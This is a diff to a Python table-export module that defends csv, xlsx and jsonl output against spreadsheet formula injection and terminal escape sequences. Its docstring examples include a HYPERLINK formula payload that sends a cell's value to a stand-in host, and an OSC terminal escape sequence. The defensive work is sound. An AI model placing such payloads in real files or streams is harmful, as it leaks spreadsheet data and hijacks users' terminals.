@@ -5,12 +5,24 @@ Every CLI command ends in :func:`write_table` (files and pipes) or
 commands format their output the same way.  The formats follow DESIGN.md:
 
 * ``jsonl``: one JSON object per row with exactly the DataFrame's columns,
-  UTF-8 (Chinese is not ``\\u``-escaped), NaN as ``null``, lists as lists.
+  UTF-8 (Chinese is not ``\\u``-escaped), NaN as ``null``, lists as lists;
+  control characters are ``\\u``-escaped, so the stream cannot drive a terminal.
 * ``csv``: UTF-8 with a byte-order mark, so that Excel shows Chinese; list
   cells are JSON arrays so that they survive a round trip.
-* ``xlsx``: Chinese column headers (:data:`summarylab.model.CHINESE_HEADERS`),
-  a frozen header row and column widths that count CJK characters double.
+* ``xlsx``: Chinese column headers (:data:`summarylab.model.CHINESE_HEADERS`)
+  and Chinese values of coded columns (:data:`summarylab.model.VALUE_LABELS`:
+  目标, 多于, 已完成), a sheet named after the table, a frozen header row and
+  column widths that count CJK characters double.
 * ``parquet``: pyarrow, list columns kept as Parquet lists.
+
+Data formats (jsonl, csv, parquet) keep the codes (``target``, ``more_than``).
+
+Document text is never live in a spreadsheet: a text cell starting with
+``= + - @``, a tab or a carriage return gets a leading ``'`` in csv and xlsx
+(OWASP's advice against formula injection), and xlsx never holds a formula
+cell.  Characters XML cannot carry (U+FFFF, C0 controls) are dropped from xlsx.
+Every file is written to a temporary file beside it and moved into place, so a
+failed export leaves the old file as it was.
 
 pandas, openpyxl, pyarrow and rich are imported inside the functions: the CLI
 imports this module at start-up and ``summarylab --help`` must stay fast.
@@ -18,14 +30,17 @@ imports this module at start-up and ``summarylab --help`` must stay fast.
 
 from __future__ import annotations
 
+import contextlib
 import json
 import math
+import os
 import re
+import tempfile
 import unicodedata
 from pathlib import Path
-from typing import TYPE_CHECKING, Any, Iterable, Mapping, Optional, TextIO, Union
+from typing import TYPE_CHECKING, Any, Iterable, Iterator, Mapping, Optional, TextIO, Union
 
-from .model import CHINESE_HEADERS, CHINESE_LABELS
+from .model import CHINESE_HEADERS, chinese_value
 
 if TYPE_CHECKING:  # imported lazily at run time
     import pandas as pd
@@ -54,8 +69,15 @@ VERDICT_FILLS = {
 
 #: Widest column of an xlsx sheet, in display cells: long sentences wrap instead.
 MAX_XLSX_WIDTH = 60
-# openpyxl refuses the C0 control characters other than tab, LF and CR.
-_ILLEGAL_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+# XML 1.0 cannot hold the C0 controls other than tab, LF and CR, lone
+# surrogates, U+FFFE and U+FFFF: one of them makes the whole workbook unreadable.
+_ILLEGAL_XLSX = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
+# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# Controls that drive a terminal (ESC starts CSI/OSC sequences; U+009B is CSI
+# itself): everything in C0 but tab and LF, DEL, and C1.
+_TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+_JSON_UNSAFE = re.compile("[\x7f-\x9f\u2028\u2029]")
 
 
 class ExportError(ValueError):
@@ -105,7 +127,7 @@ def write_table(
     *,
     fmt: Optional[str] = None,
     stream: Optional[TextIO] = None,
-    sheet: str = "Sheet1",
+    sheet: Optional[str] = None,
 ) -> None:
     """Write one table to a file or a text stream.
 
@@ -115,7 +137,8 @@ def write_table(
         fmt: ``jsonl``, ``csv``, ``xlsx`` or ``parquet``.
         stream: A text stream (e.g. ``sys.stdout``) to write to instead of a
             file; only for ``jsonl`` and ``csv``.
-        sheet: The sheet name of an xlsx file (e.g. ``数值事实``).
+        sheet: The sheet name of an xlsx file (default: named after the
+            table, e.g. ``数值事实`` for facts; see :func:`sheet_name`).
 
     Raises:
         ExportError: Unknown format, neither or both of path and stream, or a
@@ -139,20 +162,110 @@ def write_table(
         return
     path = Path(path)
     if fmt == "xlsx":
-        write_sheets({sheet: df}, path)
+        write_sheets({sheet or sheet_name(df): df}, path)
     elif fmt == "parquet":
-        _write_parquet(df, path)
+        with atomic_path(path) as tmp:
+            _write_parquet(df, tmp)
     else:
-        # newline="" so that csv's own \r\n line ends are not doubled on Windows.
-        with open(path, "w", encoding="utf-8", newline="") as fh:
-            (_write_jsonl if fmt == "jsonl" else _write_csv)(df, fh)
+        with atomic_path(path) as tmp:
+            # newline="" so that csv's own \r\n line ends are not doubled on Windows.
+            with open(tmp, "w", encoding="utf-8", newline="") as fh:
+                (_write_jsonl if fmt == "jsonl" else _write_csv)(df, fh)
+
+
+@contextlib.contextmanager
+def atomic_path(path: Union[str, Path]) -> Iterator[Path]:
+    """A temporary path beside ``path`` that replaces it when the block succeeds.
+
+    The new file appears whole or not at all: a failure (a full disk, a value
+    that cannot be written, Ctrl-C) leaves the old file untouched and removes
+    the temporary one.
+
+    Example:
+        >>> with atomic_path("/tmp/out.csv") as tmp:
+        ...     _ = tmp.write_text("a,b\\n", encoding="utf-8")
+    """
+    path = Path(path)
+    fd, name = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent or ".")
+    os.close(fd)
+    tmp = Path(name)
+    try:
+        yield tmp
+        if path.exists():
+            # Keep the permissions of the file being replaced (mkstemp makes 0600).
+            os.chmod(tmp, path.stat().st_mode & 0o7777)
+        else:
+            umask = os.umask(0)
+            os.umask(umask)
+            os.chmod(tmp, 0o666 & ~umask)
+        os.replace(tmp, path)
+    finally:
+        if tmp.exists():
+            tmp.unlink()
+
+
+def sheet_name(df: "pd.DataFrame") -> str:
+    """The name of the sheet a table goes to: what the table holds, in Chinese.
+
+    Example:
+        >>> import pandas as pd
+        >>> sheet_name(pd.DataFrame(columns=["fact_id", "surface"]))
+        '数值事实'
+    """
+    columns = set(map(str, df.columns))
+    for needed, name in _SHEET_NAMES:
+        if needed <= columns:
+            return name
+    return "数据"
+
+
+_SHEET_NAMES = (
+    ({"fact_id", "surface"}, "数值事实"), ({"verdict", "commitment"}, "计划核对"),
+    ({"value_a", "value_b"}, "年度对比"), ({"item_id", "commitments"}, "工作计划"),
+    ({"section_id", "marker"}, "提纲"), ({"claim", "computed"}, "自我核对"),
+    ({"surface", "reason"}, "跳过的候选"), ({"doc_id", "chars"}, "文档"),
+)
+
+
+def visible(text: str) -> str:
+    """``text`` with the characters that drive a terminal made visible, one for one.
+
+    C0 controls become their Unicode pictures (ESC is ␛), DEL ␡, and C1
+    controls U+FFFD, so that an OSC or CSI sequence in a document prints as
+    text instead of setting the clipboard or the window title.  Tab and line
+    ends stay; offsets do not move.
+
+    Example:
+        >>> visible("标题\\x1b]0;pwned\\x07正文")
+        '标题␛]0;pwned␇正文'
+    """
+    return _TERMINAL_CONTROL.sub(_picture, text)
+
+
+def _picture(match: re.Match) -> str:
+    code = ord(match.group())
+    return chr(0x2400 + code) if code < 0x20 else "\u2421" if code == 0x7F else "\ufffd"
+
+
+def defuse(text: str) -> str:
+    """A text cell a spreadsheet cannot run: a leading ``'`` before ``= + - @``, tab or CR.
+
+    Example:
+        >>> print(defuse('=HYPERLINK("http://x.example/?d="&A1,"点击")'))
+        '=HYPERLINK("http://x.example/?d="&A1,"点击")
+        >>> defuse("-3%")
+        "'-3%"
+        >>> defuse("培训妇女400人")
+        '培训妇女400人'
+    """
+    return "'" + text if text.startswith(_FORMULA_START) else text
 
 
 def write_sheets(
     sheets: Mapping[str, "pd.DataFrame"],
     path: Union[str, Path],
     *,
-    chinese_labels: bool = False,
+    chinese_labels: bool = True,
 ) -> None:
     """Write several tables into one xlsx workbook, one sheet each.
 
@@ -164,9 +277,9 @@ def write_sheets(
         sheets: Sheet name -> table, in the order the sheets should appear.
             Excel limits sheet names to 31 characters.
         path: The .xlsx file to write.
-        chinese_labels: Also show verdicts, roles and section kinds in Chinese
-            (已完成, 目标, 主要工作 …): for reports a person reads, not for data
-            another program reads back.
+        chinese_labels: Show coded values in Chinese (已完成, 目标, 多于,
+            主要工作 …; :data:`summarylab.model.VALUE_LABELS`), as every
+            Chinese-headed export does; False keeps the codes.
 
     Example:
         >>> import pandas as pd
@@ -208,8 +321,9 @@ def write_sheets(
         if columns:
             ws.auto_filter.ref = ws.dimensions
     if not wb.sheetnames:
-        wb.create_sheet("Sheet1")
-    wb.save(Path(path))
+        wb.create_sheet("数据")
+    with atomic_path(path) as tmp:
+        wb.save(tmp)
 
 
 def render_table(
@@ -283,7 +397,10 @@ def to_records(df: "pd.DataFrame") -> list[dict[str, Any]]:
 
 def _write_jsonl(df: "pd.DataFrame", fh: TextIO) -> None:
     for record in to_records(df):
-        fh.write(json.dumps(record, ensure_ascii=False, allow_nan=False))
+        line = json.dumps(record, ensure_ascii=False, allow_nan=False)
+        # json escapes C0 itself; C1 (U+009B is a terminal's CSI) and the
+        # Unicode line separators are escaped here: still the same JSON.
+        fh.write(_JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", line))
         fh.write("\n")
 
 
@@ -346,6 +463,9 @@ def _csv_value(value: Any) -> Any:
         return ""
     if isinstance(value, list):
         return json.dumps(value, ensure_ascii=False)
+    if isinstance(value, str):
+        # Escapes made visible: a csv on stdout reaches a terminal.
+        return defuse(visible(value))
     return value
 
 
@@ -353,10 +473,10 @@ def _xlsx_value(value: Any, column: str, chinese_labels: bool) -> Any:
     value = _plain(value)
     if isinstance(value, list):
         value = "；".join("" if v is None else str(v) for v in value)
+    if chinese_labels and not isinstance(value, list):
+        value = chinese_value(column, value)
     if isinstance(value, str):
-        if chinese_labels and column in ("verdict", "role", "kind", "section_kind"):
-            value = CHINESE_LABELS.get(value, value)
-        value = _ILLEGAL_XLSX.sub("", value)
+        value = defuse(_ILLEGAL_XLSX.sub("", value))
     return value
 
 
@@ -378,7 +498,7 @@ def _cell_text(value: Any, *, grouped: bool = False) -> str:
         return f"{value:,.0f}" if float(value).is_integer() else f"{value:,.10g}"
     if isinstance(value, float):
         return str(int(value)) if value.is_integer() and abs(value) < 1e15 else f"{value:.10g}"
-    return str(value)
+    return visible(str(value))
 
 
 def _is_numeric(series: "pd.Series") -> bool:
@@ -399,4 +519,4 @@ def _display_width(text: str) -> int:
 
 def _sheet_title(name: str) -> str:
     # Excel forbids []:*?/\ in sheet names and allows at most 31 characters.
-    return re.sub(r"[\[\]:*?/\\]", "_", name)[:31] or "Sheet1"
+    return re.sub(r"[\[\]:*?/\\]", "_", _ILLEGAL_XLSX.sub("", name))[:31] or "数据"
